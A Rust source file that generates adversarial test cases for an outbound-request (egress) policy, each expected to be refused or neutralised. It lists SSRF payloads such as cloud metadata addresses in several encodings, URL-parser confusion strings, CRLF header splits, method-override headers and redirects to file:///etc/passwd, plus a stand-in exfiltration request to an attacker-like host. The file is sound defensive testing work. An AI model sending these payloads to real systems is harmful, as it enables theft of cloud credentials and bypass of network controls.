//! The attacks on one egress policy.

use alloc::{
    format,
    string::{String, ToString as _},
    vec::Vec,
};

use super::{
    case::{Case, Due, Question},
    paths::escapes,
};
use crate::egress::{EgressPolicy, EgressRule, Host, HostRule, SignBinding};

/// How many rules are attacked: the first of the document. More rules of the same kind show nothing new.
pub const MAX_ATTACKED_RULES: usize = 256;

/// A public address: what an honest name resolves to.
const PUBLIC: &str = "93.184.216.34";

/// Addresses that no policy can declare, and who answers there.
const FLOOR: &[(&str, &str)] = &[
    ("169.254.169.254", "instance metadata of most clouds"),
    ("169.254.170.2", "task credentials of AWS ECS"),
    ("169.254.170.23", "pod identity of AWS EKS"),
    ("fd00:ec2::254", "instance metadata of AWS"),
    ("168.63.129.16", "host agent of Azure"),
    ("100.100.100.200", "instance metadata of Alibaba Cloud"),
    ("fd20:ce::254", "instance metadata of Google Cloud"),
    ("fd00:c1::a9fe:a9fe", "instance metadata of Oracle Cloud"),
    ("fd00:a9fe:a9fe::1", "instance metadata of Akamai"),
    ("fe80::a9fe:a9fe", "instance metadata of OpenStack"),
    ("0.0.0.0", "this host, on many systems"),
    ("::", "this host, on many systems"),
    ("224.0.0.1", "a multicast group"),
    ("ff02::1", "a multicast group"),
    ("255.255.255.255", "broadcast"),
    ("::ffff:169.254.169.254", "instance metadata inside IPv6"),
    ("64:ff9b::a9fe:a9fe", "instance metadata behind NAT64"),
    ("64:ff9b:1:0:a9:fea9:fe00:0", "instance metadata behind a local NAT64 prefix"),
    ("2002:a9fe:a9fe::1", "instance metadata behind 6to4"),
];

/// Addresses that a policy reaches only where a rule declares them.
const SPECIAL: &[(&str, &str)] = &[
    ("127.0.0.1", "loopback"),
    ("::1", "loopback"),
    ("10.11.12.13", "a private network"),
    ("172.20.1.1", "a private network"),
    ("192.168.1.1", "a private network"),
    ("100.64.0.1", "a carrier's network"),
    ("169.254.1.1", "the link"),
    ("fe80::1", "the link"),
    ("fd12:3456::1", "a private network"),
    ("240.0.0.1", "class E"),
    ("::ffff:10.11.12.13", "a private network inside IPv6"),
    ("2001:0:a0b:c0d:8000:63bf:f5f4:f3f2", "a private network behind Teredo"),
];

/// One request that a rule is for.
struct Aim<'a> {
    rule: &'a EgressRule,
    host: String,
    is_name: bool,
    address: String,
    scheme: &'a str,
    port: Option<u16>,
    method: &'a str,
    path: String,
}

impl<'a> Aim<'a> {
    fn new(rule: &'a EgressRule) -> Option<Self> {
        let starred = || rule.patterns.first().map(|pattern| pattern.replace('*', "any"));
        let listed = rule.hosts.first().or(rule.suffixes.first()).cloned().or_else(starred);
        let host = listed.or_else(|| rule.any_host.then(|| "leasehold-control.example".to_string()))?;
        // A Unicode rule is asked for by its ASCII name only, and the rule alone does not show that.
        let host =
            if host.is_ascii() { host.trim_end_matches('.').to_ascii_lowercase() } else { return None };
        let parsed = Host::parse(&host).ok()?;
        let schemes = rule.schemes.as_deref().unwrap_or_default();
        let scheme = if schemes.is_empty() || schemes.iter().any(|own| own.eq_ignore_ascii_case("https")) {
            "https"
        } else {
            "http"
        };
        let methods = rule.methods.as_deref();
        let method = match methods {
            None => "GET",
            Some(own) => own.iter().find(|method| *method != "CONNECT").or(own.first())?,
        };
        let declared = rule.private_addresses.first().map(|range| range.split('/').next().unwrap_or(range));
        Some(Self {
            rule,
            is_name: parsed.name().is_some(),
            host,
            address: declared.unwrap_or(PUBLIC).into(),
            scheme,
            port: rule.ports.as_ref().and_then(|ports| ports.first().copied()),
            method,
            path: rule.paths.as_ref().and_then(|paths| paths.first().cloned()).unwrap_or_else(|| "/".into()),
        })
    }

    fn url_of(&self, scheme: &str, host: &str, port: Option<u16>, path: &str) -> String {
        let port = port.map(|port| format!(":{port}")).unwrap_or_default();
        format!("{scheme}://{host}{port}{path}")
    }

    fn url(&self) -> String {
        self.url_of(self.scheme, &self.host, self.port, &self.path)
    }

    fn with_path(&self, path: &str) -> String {
        self.url_of(self.scheme, &self.host, self.port, path)
    }

    fn with_host(&self, host: &str) -> String {
        self.url_of(self.scheme, host, self.port, &self.path)
    }

    fn port(&self) -> u16 {
        self.port.unwrap_or(if self.scheme == "http" { 80 } else { 443 })
    }

    fn question(&self) -> Question {
        if self.method == "CONNECT" {
            return Question::tunnel(&format!("{}:{}", self.host, self.port()))
                .resolves(&self.host, &[&self.address]);
        }
        self.ask(&self.url())
    }

    fn ask(&self, url: &str) -> Question {
        Question::new(self.method, url).resolves(&self.host, &[&self.address])
    }

    fn name(&self, attack: &str, of: &str) -> String {
        let of = if of.is_empty() { String::new() } else { format!(" {of}") };
        format!("egress.{attack} rule {}{of}", self.rule.id)
    }

    fn declares(&self, address: &str) -> bool {
        let Ok(address) = address.parse::<core::net::IpAddr>() else { return false };
        let canonical = address.to_canonical();
        self.rule.private_addresses.iter().any(|range| {
            let whole = range.parse::<ipnet::IpNet>();
            whole.is_ok_and(|whole| whole.contains(&address) || whole.contains(&canonical))
                || range.parse() == Ok(address)
        })
    }
}

/// The attacks on a policy, and a control for each of its rules.
///
/// What a rule is for is not attacked: an address that it declares, a path that another rule of the policy allows for
/// the same host. What a policy allows by being wide is: a rule for any host lets every host through, and says so.
///
/// Cost: some 200 cases of one allocation or two for each of the first [`MAX_ATTACKED_RULES`] rules.
pub fn egress(policy: &EgressPolicy) -> Vec<Case> {
    let mut cases = unlisted();
    for rule in policy.rules.iter().take(MAX_ATTACKED_RULES) {
        let Some(aim) = Aim::new(rule) else { continue };
        cases.push(Case::new(aim.name("control", ""), Due::Allowed, "what the rule is for", aim.question()));
        methods_and_ports(&aim, policy, &mut cases);
        if aim.method == "CONNECT" {
            continue;
        }
        paths(&aim, policy, &mut cases);
        headers(&aim, &mut cases);
        if aim.is_name {
            addresses(&aim, &mut cases);
            spellings(&aim, policy, &mut cases);
            redirects(&aim, policy, &mut cases);
        }
    }
    cases
}

/// What no policy is for.
fn unlisted() -> Vec<Case> {
    let name = "exfiltration.leasehold-attack.example";
    let literals = [
        ("http://169.254.169.254/latest/meta-data/", "the metadata service by its address"),
        ("http://2852039166/latest/meta-data/", "the same, as one number"),
        ("http://0xa9fea9fe/", "the same, in hexadecimal"),
        ("http://0251.0376.0251.0376/", "the same, in octal"),
        ("http://[::ffff:a9fe:a9fe]/", "the same, inside IPv6"),
        ("http://127.1/", "loopback, in its short form"),
        ("http://localhost/", "loopback, by name"),
        ("https://93.184.216.34/", "a public address that no rule lists"),
    ];
    let mut cases = alloc::vec![Case::new(
        "egress.host.unlisted".into(),
        Due::Refused,
        "data leaves to a host that nobody listed",
        Question::get(&format!("https://{name}/?d=c2VjcmV0")).resolves(name, &[PUBLIC]),
    )];
    for (url, why) in literals {
        let question = Question::get(url).resolves("localhost", &["127.0.0.1"]);
        cases.push(Case::new(format!("egress.literal {url}"), Due::Refused, why, question));
    }
    let tunnel = Question::tunnel(&format!("{name}:443")).resolves(name, &[PUBLIC]);
    let why = "a tunnel hides method, path and headers";
    cases.push(Case::new("egress.tunnel.unlisted".into(), Due::Refused, why, tunnel));
    cases
}

fn methods_and_ports(aim: &Aim<'_>, policy: &EgressPolicy, cases: &mut Vec<Case>) {
    let named = |method: &str| {
        let of = |rule: &EgressRule| {
            let own = rule.methods.as_deref();
            own.map_or(matches!(method, "GET" | "HEAD"), |own| own.iter().any(|own| own == method))
        };
        policy.rules.iter().any(of)
    };
    for method in ["DELETE", "PUT", "TRACE", "PURGE"].into_iter().filter(|method| !named(method)) {
        let question = Question {
            request: super::QuestionRequest { method: method.into(), ..aim.ask(&aim.url()).request },
            ..aim.ask(&aim.url())
        };
        cases.push(Case::new(
            aim.name("method", method),
            Due::Refused,
            "a method that no rule names",
            question,
        ));
    }
    for method in ["get", "G\r\nET", "GET /x HTTP/1.1\r\nHost: x"] {
        let question = Question::new(method, &aim.url()).resolves(&aim.host, &[&aim.address]);
        let why = "methods are case-sensitive tokens; what is no token splits a request";
        cases.push(Case::new(aim.name("method.malformed", ""), Due::Refused, why, question));
    }
    if !named("CONNECT") {
        let question =
            Question::tunnel(&format!("{}:{}", aim.host, aim.port())).resolves(&aim.host, &[&aim.address]);
        let why = "a tunnel hides method, path and headers";
        cases.push(Case::new(aim.name("tunnel", ""), Due::Refused, why, question));
    }
    for port in [22_u16, 25, 6379, 2375] {
        let named = |rule: &EgressRule| rule.ports.as_ref().is_some_and(|ports| ports.contains(&port));
        if policy.rules.iter().any(named) {
            continue;
        }
        let question = aim.ask(&aim.url_of(aim.scheme, &aim.host, Some(port), &aim.path));
        cases.push(Case::new(
            aim.name("port", &port.to_string()),
            Due::Refused,
            "another service of the host",
            question,
        ));
    }
    let listed = |scheme: &str| {
        let of = |rule: &EgressRule| {
            rule.schemes.as_ref().is_some_and(|own| own.iter().any(|own| own.eq_ignore_ascii_case(scheme)))
        };
        policy.rules.iter().any(of)
    };
    if !listed("http") {
        let question = aim.ask(&aim.url_of("http", &aim.host, None, &aim.path));
        cases.push(Case::new(aim.name("scheme", "http"), Due::Refused, "in the clear", question));
    }
    for scheme in ["ftp", "file", "gopher"] {
        let question = aim.ask(&aim.url_of(scheme, &aim.host, None, &aim.path));
        cases.push(Case::new(
            aim.name("scheme", scheme),
            Due::Refused,
            "no scheme of an HTTP client",
            question,
        ));
    }
}

/// Whether some rule of the policy may allow any path of this aim's host.
fn reaches_everything(aim: &Aim<'_>, policy: &EgressPolicy) -> bool {
    policy.rules.iter().any(|rule| {
        let all = rule.paths.as_ref().is_none_or(|paths| paths.iter().any(|path| path == "/"));
        all && names(rule, &aim.host)
    })
}

/// Whether a rule's host members name this host.
fn names(rule: &EgressRule, host: &str) -> bool {
    let Ok(parsed) = Host::parse(host) else { return false };
    let matches = |compiled: Result<HostRule, _>| compiled.is_ok_and(|compiled| compiled.matches(&parsed));
    rule.any_host && parsed.name().is_some()
        || rule.hosts.iter().any(|own| matches(HostRule::exact(own)))
        || rule.suffixes.iter().any(|own| matches(HostRule::suffix(own)))
        || rule.patterns.iter().any(|own| matches(HostRule::pattern(own)))
}

fn paths(aim: &Aim<'_>, policy: &EgressPolicy, cases: &mut Vec<Case>) {
    if reaches_everything(aim, policy) {
        return;
    }
    let outside = aim.ask(&aim.with_path("/leasehold-outside"));
    cases.push(Case::new(
        aim.name("path", "/leasehold-outside"),
        Due::Refused,
        "no prefix holds it",
        outside,
    ));
    for prefix in aim.rule.paths.iter().flatten() {
        for path in escapes(prefix) {
            let why = "some server reads this path as one outside of the prefix";
            cases.push(Case::new(aim.name("path", &path), Due::Refused, why, aim.ask(&aim.with_path(&path))));
        }
    }
}

fn headers(aim: &Aim<'_>, cases: &mut Vec<Case>) {
    let restricts = aim.rule.methods.is_some() || aim.rule.paths.is_some();
    let overrides = [
        ("x-http-method-override", "DELETE"),
        ("x-http-method", "DELETE"),
        ("x-method-override", "DELETE"),
        ("x-original-url", "/leasehold-outside"),
        ("x-rewrite-url", "/leasehold-outside"),
    ];
    for (header, value) in overrides.into_iter().filter(|_| restricts) {
        let question = aim.question().header(header, value);
        let due = Due::Withheld { header: header.into() };
        let why = "some frameworks take this header for the method or path";
        cases.push(Case::new(aim.name("override", header), due, why, question));
    }
    for (header, value) in [("transfer-encoding", "chunked"), ("host", "other.example")] {
        let question = aim.question().header(header, value);
        let due = Due::Withheld { header: header.into() };
        let why = "who frames a message, or names its host, decides what the origin reads";
        cases.push(Case::new(aim.name("framing", header), due, why, question));
    }
    let split = aim.question().header("x-a", "b\r\nx-c: d");
    cases.push(Case::new(aim.name("header.split", ""), Due::Refused, "one field that becomes two", split));
    for binding in &aim.rule.credentials {
        let Some(header) = header_of(binding) else { continue };
        let question = aim.question().header(header, "forged").header(&header.to_ascii_uppercase(), "forged");
        let due = Due::Replaced { header: header.to_ascii_lowercase() };
        let why = "the client's own credential goes out beside the policy's";
        cases.push(Case::new(aim.name("credential", header), due, why, question).of_secrets());
    }
}

fn header_of(binding: &crate::egress::CredentialBinding) -> Option<&str> {
    // A Basic pair stands in a field of its own; what goes into the target is in none.
    let signed = binding.sign.as_ref().map(|sign| match sign {
        SignBinding::AwsSigv4(_) => "authorization",
        SignBinding::Hmac(hmac) => hmac.header.as_str(),
    });
    binding.header.as_deref().or_else(|| binding.basic.as_ref().map(|_| "authorization")).or(signed)
}

fn addresses(aim: &Aim<'_>, cases: &mut Vec<Case>) {
    let floor = FLOOR.iter().map(|row| (row, "address.floor"));
    let special =
        SPECIAL.iter().filter(|(address, _)| !aim.declares(address)).map(|row| (row, "address.special"));
    for ((address, why), attack) in floor.chain(special) {
        for answers in [alloc::vec![*address], alloc::vec![aim.address.as_str(), *address]] {
            let many = if answers.len() > 1 { " beside a good one" } else { "" };
            let question = aim.question().resolves(&aim.host, &answers);
            cases.push(Case::new(aim.name(attack, &format!("{address}{many}")), Due::Refused, why, question));
        }
    }
    let silent = aim.question().resolves(&aim.host, &[]);
    cases.push(Case::new(aim.name("address.none", ""), Due::Refused, "no answer is no address", silent));
}

fn spellings(aim: &Aim<'_>, policy: &EgressPolicy, cases: &mut Vec<Case>) {
    let host = &aim.host;
    let evil = "leasehold-attack.example";
    let port = aim.port.map(|port| format!(":{port}")).unwrap_or_default();
    let texts = [
        format!("{}://{host}@{evil}{port}{}", aim.scheme, aim.path),
        format!("{}://{evil}#@{host}{port}{}", aim.scheme, aim.path),
        format!("{}://{evil}\\@{host}{port}{}", aim.scheme, aim.path),
        format!("{}://{host}%2e{evil}{port}{}", aim.scheme, aim.path),
        format!("{}://{host}\t.{evil}{port}{}", aim.scheme, aim.path),
        format!("{}://{host}%00.{evil}{port}{}", aim.scheme, aim.path),
        format!("{}://{host}\u{3002}{evil}{port}{}", aim.scheme, aim.path),
        format!("{}:/{host}{port}{}", aim.scheme, aim.path),
        format!("{}:///{host}{port}{}", aim.scheme, aim.path),
    ];
    for text in texts {
        let question = aim.ask(&text).resolves(evil, &[PUBLIC]);
        let why = "parsers disagree about the host of this URL";
        cases.push(Case::new(
            aim.name("url", &text.escape_default().to_string()),
            Due::Refused,
            why,
            question,
        ));
    }
    for neighbour in [format!("bad{host}"), format!("bad-{host}"), format!("{host}.{evil}")] {
        if neighbour.len() > 253 || policy.rules.iter().any(|rule| !rule.any_host && names(rule, &neighbour))
        {
            continue;
        }
        let question = aim.ask(&aim.with_host(&neighbour)).resolves(&neighbour, &[PUBLIC]);
        let why = "a name of somebody else that holds the listed one";
        cases.push(Case::new(aim.name("host.neighbour", &neighbour), Due::Refused, why, question));
    }
}

fn redirects(aim: &Aim<'_>, policy: &EgressPolicy, cases: &mut Vec<Case>) {
    let evil = "leasehold-attack.example";
    let mut places = alloc::vec![
        (format!("https://{evil}/"), "a redirect to a host that nobody listed"),
        ("http://169.254.169.254/latest/meta-data/".into(), "a redirect to the metadata service"),
        ("http://127.0.0.1/".into(), "a redirect to loopback"),
        ("file:///etc/passwd".into(), "a redirect to a file"),
        (format!("//{evil}/"), "a redirect without a scheme"),
    ];
    if aim.scheme == "https" {
        places.push((aim.url_of("http", &aim.host, None, &aim.path), "a redirect into the clear"));
    }
    let clear = policy.rules.iter().any(|rule| {
        rule.schemes.as_ref().is_some_and(|own| own.iter().any(|own| own.eq_ignore_ascii_case("http")))
    });
    for (place, why) in places {
        if clear && why == "a redirect into the clear" {
            continue;
        }
        let question = aim.question().resolves(evil, &[PUBLIC]).redirected(302, &place);
        cases.push(Case::new(aim.name("redirect", &place), Due::RedirectRefused, why, question));
    }
}
